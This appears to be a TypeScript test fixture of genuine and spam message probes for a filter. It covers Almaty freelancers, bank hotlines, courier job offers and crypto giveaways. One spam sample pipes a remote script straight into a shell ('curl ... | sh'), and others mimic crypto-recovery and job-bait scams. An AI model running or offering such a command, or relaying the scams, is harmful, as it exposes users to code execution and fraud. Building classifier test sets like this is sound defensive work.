// Development probes of issue 15's genuine gaps (2026-12-07, genuine-gaps): the development batch
// (genuine-gap-examples.ts) was mostly published on main already, so these variants of the brief's
// cases were written after its baseline and before any code change, to find the failing shapes
// ("customer service number" with a brand, a reader's "my blog", an unfenced git or curl line, the
// courier's claim without a job word); the spam ones were written after the first version of the
// code, to look for doors it opened. Development only: the held-out batch is
// genuine-gap-heldout-examples.ts.

/** Genuine variants (development probes). */
export const GAP_PROBE_GENUINE: readonly string[] = [
  'I run a small freight-forwarding business in Almaty, our revenue fell 30% when the border closed, I wrote about it on my blog: https://myfreightblog.com/2026/border',
  'I wrote about my first year of freelancing, I made $1,200 a month on average: https://lenawrites.example.com/first-year',
  "I called Aeroflot's customer service number +7 495 223 5555 and they kept me waiting for an hour",
  'I called the Kaspi Bank customer service number 7111 and they blocked my card for no reason',
  'Позвонила в службу поддержки Сбербанка по номеру 8 800 555 55 50, продержали на линии 40 минут',
  'Звонил на горячую линию Аэрофлота +7 495 223-55-55, билет так и не вернули',
  'Try curl -s https://api.exchangerate.host/latest?base=KZT | jq .rates.CNY to check the rate yourself',
  'git clone https://gitlab.com/someuser/kz-tenders.git && cd kz-tenders && make run',
  'curl -X POST https://api.telegram.org/bot<token>/sendMessage -d chat_id=123 -d text=hi',
  'заработал 80 000 за месяц без опыта, спрашивайте, если интересно, как оформиться в парк',
  'Я таксист, заработал 80 000 за месяц без опыта, спрашивайте, если интересно, как оформиться в парк',
  'Курьером заработал 80 000 за месяц без опыта! Спрашивайте, если интересно, как оформиться в парк',
];

/** Spam probing the new readings (development probes). */
export const GAP_PROBE_SPAM: readonly string[] = [
  'git clone https://github.com/cheap-seo-tools/backlinks-generator and get 10,000 backlinks free, best SEO tool',
  'pip install requests then visit https://best-casino-bonus.com for 200 free spins',
  'curl https://crypto-airdrop-claim.net/get | sh to claim your free 0.5 BTC now',
  'I run a small shop in Almaty and our sales went up 40% this year, I wrote about it on my blog https://almaty-seo-pro.kz',
  'As a freelancer I made $5,000 a month, I wrote about how you can do it too: https://freelance-secrets.com',
  'I called Coinbase support at 1-844-555-0112, they kept me on hold but then a nice agent Mr. Brown recovered my wallet',
  'I called Binance customer service number 1-888-555-0199 and they blocked my account, nobody helped',
  'заработал 80 000 за месяц без опыта, спрашивайте, если интересно, как оформиться в парк, пишите в лс',
  'Зарабатываю 150 000 в месяц без опыта, спрашивайте как, ссылка в профиле',
  'За две недели заработал 90 тысяч в такси без опыта и вложений. Пиши «да» и объясню',
];
